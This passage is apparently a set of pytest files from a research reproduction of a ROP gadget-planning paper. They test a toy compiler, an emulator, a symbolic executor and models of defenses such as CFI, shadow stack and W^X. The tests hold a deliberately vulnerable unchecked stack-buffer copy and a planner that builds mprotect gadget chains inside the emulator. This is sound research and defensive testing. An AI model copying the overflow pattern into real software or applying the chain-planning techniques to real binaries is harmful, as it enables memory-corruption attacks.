    assert "syntactic gadgets" in out
    assert "functional diversity" not in out


VULNERABLE_SOURCE = """
u8 optarg[256];
u64 optarg_len = 0;
u64 main() {
    u8 buf[8];
    for (u64 i = 0; i < optarg_len; i++) { buf[i] = optarg[i]; }
    print(buf[0]);
    return 0;
}
"""

CLEAN_SOURCE = """
u8 optarg[256];
u64 optarg_len = 0;
u64 main() {
    u8 buf[8];
    for (u64 i = 0; i < optarg_len; i++) {
        if (i < 8) { buf[i] = optarg[i]; }
    }
    print(buf[0]);
    return 0;
}
"""


def test_lint_flags_overflow_with_nonzero_exit(tmp_path, capsys):
    src = tmp_path / "vuln.mc"
    src.write_text(VULNERABLE_SOURCE)
    assert main(["lint", str(src)]) == 1
    out = capsys.readouterr().out
    assert "overflow finding" in out
    assert "buf" in out and "optarg" in out


def test_lint_clean_source_exits_zero(tmp_path, capsys):
    src = tmp_path / "clean.mc"
    src.write_text(CLEAN_SOURCE)
    assert main(["lint", str(src)]) == 0
    assert "no overflow findings" in capsys.readouterr().out


def test_lint_custom_sources(tmp_path, capsys):
    src = tmp_path / "vuln.mc"
    src.write_text(VULNERABLE_SOURCE.replace("optarg", "netbuf"))
    # Default sources do not include "netbuf": clean.
    assert main(["lint", str(src)]) == 0
    # Telling the checker the real attacker surface flags it.
    assert main(["lint", str(src), "--sources", "netbuf"]) == 1


def test_plan_subcommand(tmp_path, capsys):
    # A binary with a known chain: compile a trivial program (the
    # runtime provides goal gadgets) and ask for mprotect.
    src = tmp_path / "prog.mc"
    src.write_text(SOURCE)
    out = tmp_path / "prog.nflf"
    main(["cc", str(src), "-o", str(out), "--obfuscate", "encode_data", "--seed", "7"])
    status = main(["plan", str(out), "--goal", "mprotect", "--max-plans", "2"])
    captured = capsys.readouterr()
    assert "gadgets:" in captured.out
    assert "validated payloads" in captured.out
    assert status in (0, 1)  # chain presence depends on the build


def test_unknown_config_rejected(tmp_path, capsys):
    src = tmp_path / "prog.mc"
    src.write_text(SOURCE)
    with pytest.raises(SystemExit):
        main(["cc", str(src), "--obfuscate", "nonsense"])


def test_extract_trace_flag_writes_valid_jsonl(compiled, tmp_path, capsys):
    from repro.obs import validate_trace_file

    trace = tmp_path / "t.jsonl"
    assert (
        main(
            ["extract", str(compiled), "--max-insns", "4", "--jobs", "1",
             "--no-cache", "--trace", str(trace)]
        )
        == 0
    )
    spans = validate_trace_file(trace)
    names = {s["name"] for s in spans}
    assert {"pipeline", "extract", "extract.symex", "winnow"} <= names
    captured = capsys.readouterr()
    assert "spans written" in captured.err


def test_trace_subcommand_summarizes(compiled, tmp_path, capsys):
    trace = tmp_path / "t.jsonl"
    main(["extract", str(compiled), "--max-insns", "4", "--jobs", "1",
          "--no-cache", "--trace", str(trace)])
    capsys.readouterr()
    assert main(["trace", str(trace)]) == 0
    out = capsys.readouterr().out
    assert out.startswith("pipeline")
    assert "extract" in out and "winnow" in out and "wall=" in out


def test_trace_subcommand_rejects_invalid_input(tmp_path, capsys):
    bogus = tmp_path / "bogus.jsonl"
    bogus.write_text("not a trace\n")
    assert main(["trace", str(bogus)]) == 1
    assert "invalid trace" in capsys.readouterr().err
    assert main(["trace", str(tmp_path / "absent.jsonl")]) == 1
    assert "cannot read trace" in capsys.readouterr().err
