"""End-to-end compiler tests: MC source → binary → emulator → output."""

import pytest

from repro.compiler import compile_source
from repro.compiler.lowering import LoweringError, lower_program
from repro.emulator import run_image
from repro.lang import parse


def run_mc(source, step_limit=2_000_000):
    program = compile_source(source)
    return run_image(program.image, step_limit=step_limit)


def test_return_status():
    status, _ = run_mc("u64 main() { return 42; }")
    assert status == 42


def test_arithmetic():
    status, _ = run_mc("u64 main() { return (2 + 3) * 4 - 10 / 2; }")
    assert status == 15


def test_bitwise_and_shifts():
    status, _ = run_mc("u64 main() { return ((1 << 6) | 0xF) & ~3 ^ 1; }")
    assert status == ((1 << 6) | 0xF) & ~3 ^ 1


def test_variable_shift_loop():
    status, _ = run_mc("u64 main() { u64 n = 5; return 3 << n; }")
    assert status == 96


def test_modulo():
    status, _ = run_mc("u64 main() { return 1234 % 100; }")
    assert status == 34


def test_print_decimal():
    _, out = run_mc("u64 main() { print(12345); print(0); return 0; }")
    assert out == b"12345\n0\n"


def test_print_str():
    _, out = run_mc('u64 main() { print_str("hello world\\n"); return 0; }')
    assert out == b"hello world\n"


def test_if_else():
    source = """
    u64 main() {
        u64 x = 7;
        if (x > 5) { return 1; }
        else { return 2; }
    }
    """
    assert run_mc(source)[0] == 1


def test_while_loop_sum():
    source = """
    u64 main() {
        u64 s = 0;
        u64 i = 1;
        while (i <= 10) { s += i; i++; }
        return s;
    }
    """
    assert run_mc(source)[0] == 55


def test_for_loop_with_break_continue():
    source = """
    u64 main() {
        u64 s = 0;
        for (u64 i = 0; i < 100; i++) {
            if (i % 2 == 1) { continue; }
            if (i >= 10) { break; }
            s += i;
        }
        return s;
    }
    """
    assert run_mc(source)[0] == 0 + 2 + 4 + 6 + 8


def test_function_calls_and_recursion():
    source = """
    u64 fib(u64 n) {
        if (n < 2) { return n; }
        return fib(n - 1) + fib(n - 2);
    }
    u64 main() { return fib(12); }
    """
    assert run_mc(source)[0] == 144


def test_multiple_args():
    source = """
    u64 f(u64 a, u64 b, u64 c, u64 d, u64 e, u64 g) {
        return a + b * 2 + c * 3 + d * 4 + e * 5 + g * 6;
    }
    u64 main() { return f(1, 1, 1, 1, 1, 1); }
    """
    assert run_mc(source)[0] == 21


def test_local_u64_array():
    source = """
    u64 main() {
        u64 a[5];
        for (u64 i = 0; i < 5; i++) { a[i] = i * i; }
        u64 s = 0;
        for (u64 i = 0; i < 5; i++) { s += a[i]; }
        return s;
    }
    """
    assert run_mc(source)[0] == 0 + 1 + 4 + 9 + 16


def test_byte_array_and_strings():
    source = """
    u64 main() {
        u8 buf[8];
        u8* s = "AB";
        u64 i = 0;
        while (s[i] != 0) { buf[i] = s[i] + 1; i++; }
        buf[i] = 0;
        print_str(buf);
        return i;
    }
    """
    status, out = run_mc(source)
    assert status == 2
    assert out == b"BC"


def test_globals():
    source = """
    u64 counter = 10;
    u64 table[4];
    u64 bump() { counter = counter + 1; return counter; }
    u64 main() {
        bump();
        bump();
        table[0] = counter;
        return table[0];
    }
    """
    assert run_mc(source)[0] == 12


def test_pointer_write_through():
    source = """
    u64 g = 0;
    u64 set(u64* p, u64 v) { *p = v; return 0; }
    u64 main() { set(&g, 99); return g; }
    """
    assert run_mc(source)[0] == 99


def test_pointer_arithmetic_is_byte_granular():
    source = """
    u64 main() {
        u64 a[2];
        a[0] = 1;
        a[1] = 2;
        u64* p = a;
        u64* q = p + 8;
        return *q;
    }
    """
    assert run_mc(source)[0] == 2


def test_logical_short_circuit():
    source = """
    u64 g = 0;
    u64 bump() { g = g + 1; return 1; }
    u64 main() {
        u64 r = 0 && bump();
        u64 s = 1 || bump();
        return g * 10 + r + s;
    }
    """
    assert run_mc(source)[0] == 1  # bump never called; r=0, s=1


def test_unary_ops():
    source = "u64 main() { u64 x = 5; return (~x & 0xFF) + (0 - x) % 7 + !x + !!x; }"
    status, _ = run_mc(source)
    assert status == ((~5 & 0xFF) + ((-5) % (1 << 64)) % 7 + 0 + 1)


def test_nested_call_args():
    source = """
    u64 add(u64 a, u64 b) { return a + b; }
    u64 main() { return add(add(1, 2), add(3, 4)); }
    """
    assert run_mc(source)[0] == 10


def test_exit_builtin():
    status, _ = run_mc("u64 main() { exit(7); return 1; }")
    assert status == 7


def test_unchecked_copy_overflows_like_c():
    """The vulnerability class the paper exploits: an unchecked copy
    into a stack buffer really does smash adjacent memory."""
    source = """
    u8 src[64];
    u64 victim() {
        u64 canary[1];
        u8 buf[8];
        canary[0] = 7;
        u64 i = 0;
        while (src[i] != 0) { buf[i] = src[i]; i++; }
        return canary[0];
    }
    u64 main() {
        for (u64 i = 0; i < 32; i++) { src[i] = 65; }
        src[32] = 0;
        return victim() & 0xFF;
    }
    """
    status, _ = run_mc(source)
    # The copy ran past buf's 8 bytes into the adjacent canary array.
    assert status == 0x41


def test_lowering_error_undefined_variable():
    with pytest.raises(LoweringError):
        lower_program(parse("u64 main() { return nope; }"))


def test_lowering_error_undefined_function():
    with pytest.raises(LoweringError):
        lower_program(parse("u64 main() { return nope(); }"))


def test_lowering_error_no_main():
    with pytest.raises(LoweringError):
        lower_program(parse("u64 f() { return 0; }"))


def test_lowering_error_address_of_scalar_local():
    with pytest.raises(LoweringError):
        lower_program(parse("u64 main() { u64 x = 1; u64* p = &x; return 0; }"))


def test_image_has_function_symbols():
    program = compile_source("u64 helper() { return 1; } u64 main() { return helper(); }")
    assert "fn_main" in program.image.symbols
    assert "fn_helper" in program.image.symbols
    assert program.image.symbols["fn_main"] != program.image.symbols["fn_helper"]
