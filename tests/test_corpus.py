"""Replay the seeded regression corpus (tests/corpus/*.json).

Every case in the corpus is a shrunken reproducer of a divergence the
differential fuzzer once found (or a pinned agreement worth guarding).
This test replays each against today's stack — any red here means a
previously-fixed cross-layer bug has returned.
"""

from pathlib import Path

import pytest

from repro.fuzz import ORACLE_NAMES, load_corpus, run_case
from repro.fuzz.corpus import case_filename

CORPUS_DIR = Path(__file__).parent / "corpus"

CASES = load_corpus(CORPUS_DIR)


def test_corpus_is_seeded():
    assert len(CASES) >= 10, "the regression corpus must hold at least 10 cases"
    oracles = {case.oracle for case in CASES}
    assert {"emu_symex", "roundtrip", "prefilter", "winnow"} <= oracles


def test_corpus_files_are_canonical():
    names = {path.name for path in CORPUS_DIR.glob("*.json")}
    for case in CASES:
        assert case.oracle in ORACLE_NAMES
        assert case_filename(case) in names  # content-addressed name matches


@pytest.mark.parametrize(
    "case", CASES, ids=[case.note.split(":")[0] or f"case{i}" for i, case in enumerate(CASES)]
)
def test_corpus_case_replays_green(case):
    assert run_case(case) == [], f"regression: {case.note}"
