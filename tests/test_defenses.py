"""Tests for the composable mitigation models (``repro.defenses``).

Three layers under test: policy parsing/registry, the gadget-survival
filter over extracted pools, and concrete enforcement in the emulator
(CFI, shadow stack, W^X vetoes, ASLR knowledge).  The planner
integration tests assert the paper-shaped outcome: a chain that
validates unprotected still validates under coarse CFI but dies under
fine CFI — and disabling every defense reproduces the historical
planner behaviour exactly.
"""

import json

import pytest

from repro.binfmt import make_image
from repro.defenses import (
    CFIMode,
    CFITargets,
    DefensePolicy,
    DefenseViolation,
    KIND_CALL,
    KIND_JUMP,
    KIND_RET,
    POLICIES,
    SurvivalCensus,
    defense_census,
    enforced_emulator,
    filter_pool,
    format_defense_census,
    gadget_survives,
    parse_policy,
    validate_defense_matrix,
    validate_payload_with_policy,
)
from repro.emulator import Sys
from repro.gadgets.extract import extract_gadgets
from repro.gadgets.subsumption import deduplicate_gadgets
from repro.isa import Reg, assemble_unit
from repro.planner import GadgetPlanner, PlannerConfig, mprotect_goal, resolve_goal
from repro.symex.executor import EndKind


def image_for(source, data=b""):
    unit = assemble_unit(source, base_addr=0x400000)
    return make_image(unit.code, data=data, symbols=dict(unit.labels))


RICH_GADGETS = """
    hlt                 ; padding so gadgets are not at the entry point
g_pop_rax:
    pop rax
    ret
g_pop_rdi:
    pop rdi
    ret
g_pop_rsi:
    pop rsi
    ret
g_pop_rdx:
    pop rdx
    ret
g_write:
    mov [rdi+0], rsi
    ret
g_syscall:
    syscall
    ret
"""


@pytest.fixture(scope="module")
def rich_image():
    return image_for(RICH_GADGETS)


@pytest.fixture(scope="module")
def rich_pool(rich_image):
    return deduplicate_gadgets(extract_gadgets(rich_image))


# -- policies ----------------------------------------------------------------


def test_policy_registry_names_match():
    for name, policy in POLICIES.items():
        assert policy.name == name


def test_parse_policy_known_names_return_registry_objects():
    assert parse_policy("coarse_cfi") is POLICIES["coarse_cfi"]
    assert parse_policy("none") is POLICIES["none"]


def test_parse_policy_combo_merges_strictest():
    combo = parse_policy("coarse_cfi+wx+aslr_leak")
    assert combo.name == "coarse_cfi+wx+aslr_leak"
    assert combo.cfi is CFIMode.COARSE
    assert combo.wx and combo.aslr
    assert combo.leak_budget == 1
    # fine overrides coarse regardless of order
    assert parse_policy("coarse_cfi+fine_cfi").cfi is CFIMode.FINE


def test_parse_policy_rejects_unknown():
    with pytest.raises(ValueError):
        parse_policy("coarse_cfi+bogus")
    with pytest.raises(ValueError):
        parse_policy("")


def test_enabled_property():
    assert not POLICIES["none"].enabled
    assert not DefensePolicy(name="leaky", leak_budget=3).enabled
    for name in ("coarse_cfi", "fine_cfi", "shadow_stack", "wx", "aslr", "full"):
        assert POLICIES[name].enabled, name


def test_describe_mentions_every_knob():
    text = POLICIES["full"].describe()
    assert "cfi=coarse" in text and "shadow-stack" in text
    assert "w^x" in text and "aslr(leaks=1)" in text


# -- CFI target sets ---------------------------------------------------------


CALLER = """
    mov rax, 1
    call fn
after_call:
    hlt
fn:
    ret
"""


def test_cfi_targets_from_cfg():
    image = image_for(CALLER)
    targets = CFITargets.build(image)
    after = image.symbols["after_call"]
    fn = image.symbols["fn"]
    assert after in targets.return_sites
    assert after in targets.aligned
    assert fn in targets.entries or image.entry in targets.entries
    # Fine CFI: rets only to return sites, jumps/calls only to entries.
    assert targets.valid_target(CFIMode.FINE, KIND_RET, after)
    assert not targets.valid_target(CFIMode.FINE, KIND_RET, fn)
    # An aligned boundary with no label is no fine-CFI jump target
    # (in-text symbols count as function entries, so skip those).
    aligned_only = targets.aligned - targets.entries - targets.return_sites
    assert aligned_only, "expected an unlabeled instruction boundary"
    for addr in aligned_only:
        assert not targets.valid_target(CFIMode.FINE, KIND_JUMP, addr)
        assert targets.valid_target(CFIMode.COARSE, KIND_JUMP, addr)
    # Coarse CFI: any recovered boundary, for any kind.
    assert targets.valid_target(CFIMode.COARSE, KIND_RET, fn)
    assert targets.valid_target(CFIMode.COARSE, KIND_CALL, after)
    # Off-image (stack/heap) targets are never valid.
    for mode in (CFIMode.COARSE, CFIMode.FINE):
        assert not targets.valid_target(mode, KIND_JUMP, 0x7FFF0000)
    assert targets.valid_target(CFIMode.OFF, KIND_JUMP, 0x7FFF0000)


# -- survival filtering ------------------------------------------------------


def test_shadow_stack_kills_ret_gadgets(rich_image, rich_pool):
    census = SurvivalCensus(policy="shadow_stack")
    survivors = filter_pool(POLICIES["shadow_stack"], rich_pool, census=census)
    assert all(r.end is not EndKind.RET for r in survivors)
    assert census.killed_shadow_stack == sum(
        1 for r in rich_pool if r.end is EndKind.RET
    )
    assert census.pool_size == len(rich_pool)
    assert census.surviving == len(survivors)
    # The syscall gadget is the JOP/syscall residue that must survive.
    assert any(r.end is EndKind.SYSCALL for r in survivors)


def test_gadget_survives_requires_targets_for_cfi(rich_pool):
    with pytest.raises(ValueError):
        gadget_survives(POLICIES["coarse_cfi"], rich_pool[0])


def test_coarse_cfi_keeps_aligned_gadgets(rich_image, rich_pool):
    targets = CFITargets.build(rich_image)
    survivors = filter_pool(
        POLICIES["coarse_cfi"], rich_pool, targets=targets
    )
    assert survivors, "hand-written aligned gadgets must survive coarse CFI"
    assert all(r.location in targets.aligned for r in survivors)


def test_noop_policies_return_pool_unchanged(rich_pool):
    for name in ("none", "wx", "aslr", "aslr_leak"):
        out = filter_pool(POLICIES[name], rich_pool)
        assert out == rich_pool
    # Disabled policy: literally the same list object (pure fast path).
    assert filter_pool(POLICIES["none"], rich_pool) is rich_pool


# -- enforcement: shadow stack and CFI ---------------------------------------


def test_shadow_stack_allows_matched_call_ret():
    image = image_for(CALLER)
    emu, enforcer = enforced_emulator(image, POLICIES["shadow_stack"])
    emu.run()
    assert enforcer.shadow == []


DIVERTED_RET = """
    mov rax, target
    push rax
    ret
target:
    hlt
"""


def test_shadow_stack_kills_pushed_ret():
    image = image_for(DIVERTED_RET)
    emu, _ = enforced_emulator(image, POLICIES["shadow_stack"])
    with pytest.raises(DefenseViolation) as excinfo:
        emu.run()
    assert excinfo.value.kind == "shadow_stack"


def test_fine_cfi_kills_ret_to_non_return_site():
    image = image_for(DIVERTED_RET)
    emu, _ = enforced_emulator(image, POLICIES["fine_cfi"])
    with pytest.raises(DefenseViolation) as excinfo:
        emu.run()
    assert excinfo.value.kind == "cfi"


def test_coarse_cfi_allows_aligned_pushed_ret():
    # target is a recovered boundary: coarse CFI accepts what fine kills.
    image = image_for(DIVERTED_RET)
    emu, enforcer = enforced_emulator(image, POLICIES["coarse_cfi"])
    emu.run()
    assert enforcer.checks >= 1


JMP_OFF_IMAGE = """
    mov rax, 0x7ffe0000
    jmp rax
"""


def test_cfi_kills_indirect_jump_off_image():
    image = image_for(JMP_OFF_IMAGE)
    for policy in (POLICIES["coarse_cfi"], POLICIES["fine_cfi"]):
        emu, _ = enforced_emulator(image, policy)
        with pytest.raises(DefenseViolation):
            emu.run()


# -- enforcement: W^X --------------------------------------------------------


WX_MPROTECT = """
    mov rax, 10         ; mprotect(.data, 0x1000, R|W|X)
    mov rdi, 0x600000
    mov rsi, 0x1000
    mov rdx, 7
    syscall
    hlt
"""


def test_wx_vetoes_mprotect_exec_on_writable_pages():
    image = image_for(WX_MPROTECT, data=b"\x00" * 16)
    emu, enforcer = enforced_emulator(image, POLICIES["wx"], stop_on_attack=False)
    emu.run()
    assert len(enforcer.denied_syscalls) == 1
    assert enforcer.denied_syscalls[0][0] is Sys.MPROTECT
    assert emu.cpu.get(Reg.RAX) == (-13) & ((1 << 64) - 1)  # -EACCES
    assert emu.syscalls.events == [], "vetoed call never becomes an event"


def test_wx_allows_read_exec_mprotect_on_text():
    source = """
        mov rax, 10     ; mprotect(.text, 0x1000, R|X) — no W anywhere
        mov rdi, 0x400000
        mov rsi, 0x1000
        mov rdx, 5
        syscall
        hlt
    """
    image = image_for(source)
    emu, enforcer = enforced_emulator(image, POLICIES["wx"], stop_on_attack=False)
    emu.run()
    assert enforcer.denied_syscalls == []
    assert len(emu.syscalls.events) == 1


WX_MMAP = """
    mov rax, 9          ; mmap(0, 0x1000, R|W|X, ...)
    mov rdi, 0
    mov rsi, 0x1000
    mov rdx, 7
    syscall
    hlt
"""


def test_wx_mmap_bypass_allowed_unless_strict():
    image = image_for(WX_MMAP)
    emu, enforcer = enforced_emulator(image, POLICIES["wx"], stop_on_attack=False)
    emu.run()
    assert enforcer.denied_syscalls == [], "plain wx lets fresh W|X mmap through"
    from repro.emulator.syscalls import MMAP_BASE

    assert emu.cpu.get(Reg.RAX) == MMAP_BASE


def test_wx_strict_mmap_denies_wx_mapping():
    image = image_for(WX_MMAP)
    emu, enforcer = enforced_emulator(
        image, POLICIES["wx_strict"], stop_on_attack=False
    )
    emu.run()
    assert len(enforcer.denied_syscalls) == 1
    assert emu.cpu.get(Reg.RAX) == (-13) & ((1 << 64) - 1)


# -- planner integration ------------------------------------------------------


def run_planner(image, policy):
    planner = GadgetPlanner(
        image,
        planner=PlannerConfig(max_plans=4),
        defense=policy,
    )
    return planner.run(goals=[mprotect_goal(addr=0x600000)])


def test_planner_unprotected_baseline(rich_image):
    report = run_planner(rich_image, None)
    assert report.per_goal["mprotect"] >= 1
    assert report.defense_policy is None
    assert report.gadgets_surviving is None


def test_planner_coarse_cfi_still_succeeds(rich_image):
    report = run_planner(rich_image, POLICIES["coarse_cfi"])
    assert report.defense_policy == "coarse_cfi"
    assert report.per_goal["mprotect"] >= 1
    assert report.gadgets_surviving and report.gadgets_surviving > 0
    assert all(p.validated for p in report.payloads)


def test_planner_fine_cfi_blocks_the_chain(rich_image):
    report = run_planner(rich_image, POLICIES["fine_cfi"])
    assert report.per_goal["mprotect"] == 0
    assert report.blocked_by_defense >= 1


def test_planner_aslr_without_leak_blocks(rich_image):
    report = run_planner(rich_image, POLICIES["aslr"])
    assert report.per_goal["mprotect"] == 0
    assert report.blocked_by_defense >= 1


def test_planner_aslr_with_leak_budget_succeeds(rich_image):
    report = run_planner(rich_image, POLICIES["aslr_leak"])
    assert report.per_goal["mprotect"] >= 1
    assert report.leaks_used >= 1
    payload = report.payloads[0]
    assert payload.leak_steps == 1
    assert "leak" in payload.describe()


def test_planner_disabled_defense_is_byte_identical(rich_image):
    baseline = run_planner(rich_image, None)
    disabled = run_planner(rich_image, POLICIES["none"])
    assert disabled.defense_policy is None
    assert disabled.per_goal == baseline.per_goal
    assert [p.words for p in disabled.payloads] == [
        p.words for p in baseline.payloads
    ]
    assert [p.entry_address for p in disabled.payloads] == [
        p.entry_address for p in baseline.payloads
    ]


def test_enforced_validation_matches_unprotected_run(rich_image):
    """A payload the planner validated also validates under the
    enforcement path with no defenses — same threat model."""
    report = run_planner(rich_image, None)
    payload = report.payloads[0]
    resolved = resolve_goal(rich_image, mprotect_goal(addr=0x600000))
    run = validate_payload_with_policy(
        rich_image, payload, resolved, POLICIES["none"]
    )
    assert run.ok and run.outcome == "attack"
    run_wx = validate_payload_with_policy(
        rich_image, payload, resolved, POLICIES["wx"]
    )
    assert not run_wx.ok
    assert run_wx.denied_syscalls >= 1


# -- census + schema ----------------------------------------------------------


def test_defense_census_counts_and_format(rich_image):
    doc = defense_census(rich_image, ["none", "coarse_cfi", "shadow_stack"])
    assert doc["pool_size"] > 0
    rows = {row["policy"]: row for row in doc["policies"]}
    assert rows["none"]["surviving"] == doc["pool_size"]
    assert rows["shadow_stack"]["surviving"] < doc["pool_size"]
    assert rows["shadow_stack"]["killed_shadow_stack"] > 0
    table = format_defense_census(doc, title="rich")
    assert "policy" in table and "shadow_stack" in table


def test_validate_defense_matrix_schema():
    entry = {
        "program": "p",
        "config": "none",
        "policy": "coarse_cfi",
        "pool_size": 10,
        "surviving": 8,
        "survival_ratio": 0.8,
        "payloads": 1,
        "goals_attempted": 1,
        "goals_succeeded": 1,
        "success_rate": 1.0,
        "blocked_by_defense": 0,
        "per_goal": {"mprotect": 1},
    }
    doc = {
        "schema": "nfl-bench-defenses-v1",
        "programs": ["p"],
        "configs": ["none"],
        "policies": ["coarse_cfi"],
        "entries": [entry],
    }
    validate_defense_matrix(doc)  # no raise
    with pytest.raises(ValueError):
        validate_defense_matrix({**doc, "schema": "bogus"})
    with pytest.raises(ValueError):
        validate_defense_matrix({**doc, "entries": [{**entry, "surviving": 11}]})
    with pytest.raises(ValueError):
        validate_defense_matrix(
            {**doc, "entries": [{**entry, "policy": "unknown_thing"}]}
        )
    bad = dict(entry)
    del bad["per_goal"]
    with pytest.raises(ValueError):
        validate_defense_matrix({**doc, "entries": [bad]})


# -- CLI ----------------------------------------------------------------------


def test_cli_census_defenses(tmp_path, capsys, rich_image):
    from repro.cli import main

    binary = tmp_path / "rich.nflf"
    binary.write_bytes(rich_image.to_bytes())
    assert (
        main(
            ["census", str(binary), "--defenses", "--max-insns", "12",
             "--policies", "none,coarse_cfi,shadow_stack", "--no-cache"]
        )
        == 0
    )
    out = capsys.readouterr().out
    assert "coarse_cfi" in out and "shadow_stack" in out and "surviving" in out


def test_cli_plan_with_defense(tmp_path, capsys, rich_image):
    from repro.cli import main

    binary = tmp_path / "rich.nflf"
    binary.write_bytes(rich_image.to_bytes())
    assert (
        main(["plan", str(binary), "--goal", "mprotect", "--defense", "coarse_cfi"])
        == 0
    )
    out = capsys.readouterr().out
    assert "defense: coarse_cfi" in out
    assert "gadgets survive" in out
    # An unparseable policy is a usage error, not a crash.
    with pytest.raises(ValueError):
        main(["plan", str(binary), "--goal", "mprotect", "--defense", "bogus"])


def test_census_json_roundtrip(rich_image):
    doc = defense_census(rich_image, ["none", "shadow_stack"])
    assert json.loads(json.dumps(doc)) == doc
