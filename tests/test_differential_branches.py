"""Differential testing with control flow: random branchy programs run
concretely must match the symbolic path whose constraints the concrete
input satisfies.

This extends the straight-line differential test in
``test_symex_executor.py`` to conditional jumps — the gadget feature the
paper contributes — checking both that exactly one symbolic path's
constraints hold under the concrete input, and that its final state
matches the emulator's.
"""

import random

from hypothesis import given, settings, strategies as st

from repro.binfmt import make_image
from repro.emulator import Emulator
from repro.isa import Instruction, Op, Reg, encode_program
from repro.symex import EndKind, eval_bool, eval_bv, execute_paths

SAFE_REGS = [r for r in Reg if r not in (Reg.RSP, Reg.RBP)]
COND_JUMPS = [Op.JE, Op.JNE, Op.JL, Op.JG, Op.JB, Op.JA, Op.JGE, Op.JLE]


def _branchy_program(rng, n_branches):
    """[cmp ; jcc +skip ; <skipped insn>] blocks, then ret.

    Every conditional jump skips exactly one 2-byte instruction, so both
    sides re-join and the program always reaches the final ret.
    """
    insns = []
    for _ in range(n_branches):
        a, b = rng.choice(SAFE_REGS), rng.choice(SAFE_REGS)
        insns.append(Instruction(op=Op.CMP_RR, dst=a, src=b))
        skipped = Instruction(op=Op.MOV_RR, dst=rng.choice(SAFE_REGS), src=rng.choice(SAFE_REGS))
        insns.append(Instruction(op=rng.choice(COND_JUMPS), rel=skipped.size))
        insns.append(skipped)
        mutated = rng.choice(SAFE_REGS)
        insns.append(
            Instruction(op=rng.choice([Op.ADD_RI, Op.XOR_RI]), dst=mutated, imm=rng.randrange(1 << 16))
        )
    insns.append(Instruction(op=Op.RET))
    return insns


@settings(deadline=None, max_examples=40)
@given(seed=st.integers(min_value=0, max_value=10_000), n=st.integers(1, 3))
def test_property_branchy_symbolic_matches_concrete(seed, n):
    rng = random.Random(seed)
    insns = _branchy_program(rng, n)
    code = encode_program(insns)
    hlt_addr = 0x400000 + len(code)
    code += bytes([int(Op.HLT)])

    image = make_image(code)
    emu = Emulator(image)
    init = {r: rng.getrandbits(64) for r in SAFE_REGS}
    for r, v in init.items():
        emu.cpu.set(r, v)
    rsp0 = emu.cpu.get(Reg.RSP)
    emu.memory.write_u64(rsp0, hlt_addr)
    assert emu.run() == 0

    env = {f"{r}0": v for r, v in init.items()}
    env["rsp0"] = rsp0
    env["stk0"] = hlt_addr
    # flags start false in the emulator: make the flag symbols zero.
    for f in ("zf", "sf", "cf", "of"):
        env[f"flag_{f}"] = 0

    paths = execute_paths(code, 0x400000, 0x400000, max_insns=64, max_paths=16)
    usable = [p for p in paths if p.end is EndKind.RET]
    assert usable, "no completed symbolic paths"
    matching = [
        p for p in usable if all(eval_bool(c, env) for c in p.state.constraints)
    ]
    assert len(matching) == 1, "exactly one path must match the concrete run"
    (path,) = matching
    for r in SAFE_REGS:
        assert eval_bv(path.state.get(r), env) == emu.cpu.get(r), f"{r} diverged"
    assert eval_bv(path.jump_target, env) == hlt_addr
