"""Tests for the concrete emulator: ALU semantics, stack, control flow,
syscalls, faults."""

import pytest

from repro.binfmt import STACK_TOP, make_image
from repro.emulator import (
    AttackTriggered,
    DivideError,
    Emulator,
    InvalidInstruction,
    MemoryFault,
    ProcessExit,
    StepLimitExceeded,
    Sys,
    run_image,
)
from repro.isa import Flag, Reg, assemble_unit


def emu_for(source, data=b"", **kwargs):
    unit = assemble_unit(source, base_addr=0x400000)
    image = make_image(unit.code, data=data, symbols=unit.labels)
    return Emulator(image, **kwargs)


def run_regs(source, **kwargs):
    emu = emu_for(source + "\nhlt", **kwargs)
    with pytest.raises(ProcessExit):
        while True:
            emu.step()
    return emu.cpu


def test_mov_and_arith():
    cpu = run_regs(
        """
        mov rax, 10
        mov rbx, 3
        add rax, rbx
        sub rax, 1
        mul rbx, rax   ; rbx = 3 * 12 = 36
        """
    )
    assert cpu.get(Reg.RAX) == 12
    assert cpu.get(Reg.RBX) == 36


def test_wraparound_64bit():
    cpu = run_regs(
        """
        mov rax, 0xffffffffffffffff
        add rax, 2
        """
    )
    assert cpu.get(Reg.RAX) == 1
    assert cpu.flags[Flag.CF]


def test_signed_overflow_flag():
    cpu = run_regs(
        """
        mov rax, 0x7fffffffffffffff
        add rax, 1
        """
    )
    assert cpu.flags[Flag.OF]
    assert cpu.flags[Flag.SF]


def test_logic_ops_clear_cf_of():
    cpu = run_regs(
        """
        mov rax, 0xff00
        mov rbx, 0x0ff0
        and rax, rbx
        """
    )
    assert cpu.get(Reg.RAX) == 0x0F00
    assert not cpu.flags[Flag.CF]
    assert not cpu.flags[Flag.OF]


def test_xor_zero_sets_zf():
    cpu = run_regs(
        """
        mov rax, 123
        xor rax, 123
        """
    )
    assert cpu.flags[Flag.ZF]


def test_shifts():
    cpu = run_regs(
        """
        mov rax, 1
        shl rax, 4
        mov rbx, 0x8000000000000000
        sar rbx, 63
        mov rcx, 0x10
        shr rcx, 1
        """
    )
    assert cpu.get(Reg.RAX) == 16
    assert cpu.get(Reg.RBX) == 0xFFFFFFFFFFFFFFFF
    assert cpu.get(Reg.RCX) == 8


def test_div_mod():
    cpu = run_regs(
        """
        mov rax, 17
        mov rbx, 5
        udiv rax, rbx
        mov rcx, 17
        umod rcx, rbx
        """
    )
    assert cpu.get(Reg.RAX) == 3
    assert cpu.get(Reg.RCX) == 2


def test_divide_by_zero_raises():
    emu = emu_for(
        """
        mov rax, 1
        mov rbx, 0
        udiv rax, rbx
        """
    )
    with pytest.raises(DivideError):
        for _ in range(5):
            emu.step()


def test_inc_dec_preserve_cf():
    cpu = run_regs(
        """
        mov rax, 0xffffffffffffffff
        add rax, 1      ; sets CF
        mov rbx, 5
        inc rbx
        """
    )
    assert cpu.flags[Flag.CF], "inc must preserve CF"


def test_push_pop_and_xchg():
    cpu = run_regs(
        """
        mov rax, 111
        mov rbx, 222
        push rax
        push rbx
        pop rcx
        pop rdx
        xchg rcx, rdx
        """
    )
    assert cpu.get(Reg.RCX) == 111
    assert cpu.get(Reg.RDX) == 222


def test_load_store_data_section():
    emu = emu_for(
        """
        mov rax, 0x600000
        mov rbx, 0x1234
        mov [rax+8], rbx
        mov rcx, [rax+8]
        hlt
        """,
        data=b"\x00" * 64,
    )
    emu.run()
    assert emu.cpu.get(Reg.RCX) == 0x1234


def test_byte_load_store():
    emu = emu_for(
        """
        mov rax, 0x600000
        mov rbx, 0x11FF
        movb [rax], rbx        ; stores 0xFF only
        movzxb rcx, [rax]
        hlt
        """,
        data=b"\x00" * 16,
    )
    emu.run()
